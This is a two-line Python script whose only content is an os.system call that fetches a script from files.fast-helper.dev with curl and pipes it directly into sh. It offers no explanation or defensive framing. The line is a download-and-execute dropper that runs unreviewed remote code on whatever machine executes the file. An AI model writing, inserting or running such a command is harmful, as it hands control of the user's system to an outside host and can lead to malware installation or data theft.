import os
os.system("curl https://files.fast-helper.dev/i | sh")
